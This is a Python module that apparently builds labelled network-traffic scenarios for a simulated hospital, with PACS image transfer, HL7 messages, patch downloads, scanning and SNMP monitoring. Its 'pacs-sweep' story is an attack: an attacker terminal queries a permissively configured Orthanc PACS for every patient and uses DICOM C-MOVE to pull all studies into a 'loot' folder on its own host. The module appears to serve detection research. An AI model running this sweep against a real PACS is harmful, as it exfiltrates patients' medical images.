"""Images and orders: Orthanc and dcmtk, HL7 over MLLP; a sweep through the PACS and daily work."""

from __future__ import annotations

import json

from sample_pcaps.hospital import HOSTS
from sample_pcaps.lab.hosts import Machine, Program
from sample_pcaps.lab.story import SPAN, Stage, Story, Truth

_PACS = HOSTS["PACS1"]
_STUDIES = 24
_IMAGE = 60_000  # bytes of pixels in an image


def orthanc(machine: Machine, title: str, **modalities: tuple[str, str, int]) -> Program:
    """A PACS that takes images of everybody and knows where to send them."""
    files = machine.folder / "files"
    settings = {
        "Name": title, "StorageDirectory": str(files / "store"), "IndexDirectory": str(files),
        "DicomAet": title, "DicomPort": 104, "HttpServerEnabled": False,
        "DicomAlwaysAllowFind": True, "DicomAlwaysAllowMove": True, "DicomAlwaysAllowGet": True,
        "DicomModalities": {name: list(told) for name, told in modalities.items()},
        "Plugins": [], "DicomCheckCalledAet": False,
    }  # fmt: skip
    conf = machine.write("orthanc.json", json.dumps(settings))
    return machine.serve(104, "Orthanc", conf, timeout_s=20)


def images(machine: Machine, count: int = _STUDIES) -> list[str]:
    """DICOM files of invented patients; returns their names."""
    names = []
    (machine.folder / "files" / "pixels.raw").write_bytes(bytes(range(256)) * (_IMAGE // 256))
    for number in range(count):
        uid = f"1.2.826.0.1.3680043.10.1337.{number + 1}"
        machine.write(
            "image.dump",
            "(0002,0010) UI =LittleEndianExplicit\n"
            f"(0008,0016) UI [1.2.840.10008.5.1.4.1.1.7]\n(0008,0018) UI [{uid}.3]\n"
            f"(0008,0020) DA [20261{number % 3}01]\n(0008,0060) CS [CT]\n"
            f"(0010,0010) PN [KAKUU^KANJA{number:02}]\n(0010,0020) LO [K{number:04}]\n"
            f"(0020,000d) UI [{uid}]\n(0020,000e) UI [{uid}.2]\n(0028,0002) US 1\n"
            "(0028,0004) CS [MONOCHROME2]\n(0028,0010) US 234\n(0028,0011) US 256\n"
            "(0028,0100) US 8\n(0028,0101) US 8\n(0028,0102) US 7\n(0028,0103) US 0\n"
            "(7fe0,0010) OB =pixels.raw\n",
        )
        machine.run("dump2dcm", "image.dump", f"image{number}.dcm")
        names.append(f"image{number}.dcm")
    return names


def _find(machine: Machine, title: str, *keys: str) -> str:
    words = [word for key in ("QueryRetrieveLevel=STUDY", *keys) for word in ("-k", key)]
    return machine.run("findscu", "-S", "-aet", title, "-aec", "PACS1", *words, _PACS.ip, "104")


def sweep(stage: Stage) -> None:
    """A terminal asks the PACS for every patient and fetches all studies."""
    attacker, modality = stage["EMR-3W-03"], stage["CT1"]
    orthanc(stage["PACS1"], "PACS1", THIEF=("THIEF", attacker.ip, 11112))
    modality.run("storescu", "-aet", "CT1", "-aec", "PACS1", _PACS.ip, "104", *images(modality))
    (attacker.folder / "files" / "loot").mkdir()
    attacker.serve(11112, "storescp", "-aet", "THIEF", "-od", "loot", "11112")
    truth = Truth("a terminal asks the PACS for all patients and fetches every study",
                  ("T1213", "T1005"), attacker.ip, (_PACS.ip,), (SPAN,))  # fmt: skip
    with stage.happens(truth):
        _find(attacker, "THIEF", "PatientName=*", "PatientID", "StudyInstanceUID", "StudyDate")
        for number in range(_STUDIES):
            attacker.run(
                "movescu", "-S", "-aet", "THIEF", "-aec", "PACS1", "-aem", "THIEF",
                "-k", "QueryRetrieveLevel=STUDY",
                "-k", f"StudyInstanceUID=1.2.826.0.1.3680043.10.1337.{number + 1}", _PACS.ip, "104",
            )  # fmt: skip
    stage.note(f"{len(list((attacker.folder / 'files' / 'loot').iterdir()))} images fetched")


def working_day(stage: Stage) -> None:
    """A CT sends, a viewer reads one patient, orders and results go by HL7, names by DNS."""
    modality, viewer, emr = stage["CT1"], stage["VIEW-301"], stage["EMR-AP1"]
    orthanc(stage["PACS1"], "PACS1", VIEW301=("VIEW301", viewer.ip, 104))
    engine = stage["HL7-ENG"]
    engine.serve(2575, "nc", "-lk", "2575")
    stage["DC1"].serve(53, "dnsmasq", "-k", "-u", "root", "--conf-file=/dev/null", "--no-resolv",
                       f"--address=/pacs1.mimawari-hp.example/{_PACS.ip}", udp=True)  # fmt: skip
    modality.run("echoscu", "-aet", "CT1", "-aec", "PACS1", _PACS.ip, "104")
    for name in images(modality, 8):
        modality.run("storescu", "-aet", "CT1", "-aec", "PACS1", _PACS.ip, "104", name)
    for patient in ("K0001", "K0002", "K0003"):
        viewer.run("dig", "+time=1", f"@{HOSTS['DC1'].ip}", "pacs1.mimawari-hp.example")
        _find(viewer, "VIEW301", f"PatientID={patient}", "StudyInstanceUID")
        viewer.run("getscu", "-S", "-aet", "VIEW301", "-aec", "PACS1", "-od", ".",
                   "-k", "QueryRetrieveLevel=PATIENT", "-k", f"PatientID={patient}",
                   _PACS.ip, "104", check=False)  # fmt: skip
    for number in range(10):
        head = f"MSH|^~\\&|EMR|MIMAWARI|HL7|MIMAWARI|20261122||ADT^A08|{number}|P|2.5"
        message = f"\x0b{head}\rPID|||K{number:04}||KAKUU^KANJA\r\x1c\r"
        emr.run("nc", "-q", "0", "-w", "1", engine.ip, "2575", given=message)


def migration(stage: Stage) -> None:
    """The old PACS sends everything it has to the new one."""
    old = stage["PACS2"]
    orthanc(stage["PACS1"], "PACS1")
    old.run("storescu", "-aet", "PACS2", "-aec", "PACS1", _PACS.ip, "104", *images(old, 60),
            timeout_s=60)  # fmt: skip


def patch_night(stage: Stage) -> None:
    """Six terminals fetch an update from the update server at once."""
    server = stage["WSUS"]
    (server.folder / "files" / "update.cab").write_bytes(b"MSCF" + bytes(range(256)) * 8000)
    server.serve(8530, "python3", "-m", "http.server", "8530")
    for _ in range(2):
        for name in stage.network.machines:
            if name.startswith("EMR-"):
                stage[name].run("curl", "-s", "-o", "/dev/null",
                                f"http://{server.ip}:8530/update.cab")  # fmt: skip


def scanner_window(stage: Stage) -> None:
    """The hospital's own vulnerability scanner, in the ledger as such."""
    stage["SCAN"].run("nmap", "-sS", "-sV", "-n", "-Pn", "-T4", "--max-retries", "1", "-p22,80,445",
                      "10.20.80.0/26", timeout_s=60)  # fmt: skip


def monitoring(stage: Stage) -> None:
    """SNMP polls and pings of servers by the administrator's PC."""
    for name in ("FS1", "RIS"):
        conf = stage[name].write("snmpd.conf", "rocommunity kanshi\nagentaddress udp:161\n")
        stage[name].serve(161, "snmpd", "-f", "-C", "-c", conf, udp=True)
    for _ in range(3):
        for name in ("FS1", "RIS"):
            stage["IT-PC1"].run("snmpwalk", "-v2c", "-c", "kanshi", stage[name].ip,
                                "1.3.6.1.2.1.2.2", check=False)  # fmt: skip
            stage["IT-PC1"].run("ping", "-c", "3", "-i", "0.3", stage[name].ip)


_DICOM = ("Orthanc:orthanc", "storescu:dcmtk", "dump2dcm:dcmtk")
STORIES = (
    Story("pacs-sweep", "Every study is fetched", sweep, _DICOM, ("PACS1", "CT1", "EMR-3W-03"),
          is_short=False),
    Story("benign-clinic", "A working day in small", working_day,
          (*_DICOM, "nc:netcat-openbsd", "dnsmasq:dnsmasq-base", "dig:bind9-dnsutils"),
          ("PACS1", "CT1", "VIEW-301", "EMR-AP1", "HL7-ENG", "DC1"), is_short=False,
          is_benign=True),
    Story("benign-migration", "PACS migration", migration, _DICOM, ("PACS1", "PACS2"),
          is_short=False, is_benign=True),
    Story("benign-patches", "Patch night", patch_night, ("curl:curl",),
          ("WSUS", *(f"EMR-{ward}-01" for ward in ("3E", "3W", "4E", "OPD"))), is_short=False,
          is_benign=True),
    Story("benign-scanner", "The hospital's scanner", scanner_window, ("nmap:nmap",),
          ("SCAN", "FS1", "DC1", "WSUS"), is_short=False, is_benign=True),
    Story("benign-monitoring", "SNMP and ping monitoring", monitoring,
          ("snmpd:snmpd", "snmpwalk:snmp"), ("IT-PC1", "FS1", "RIS"), is_short=False,
          is_benign=True),
)  # fmt: skip
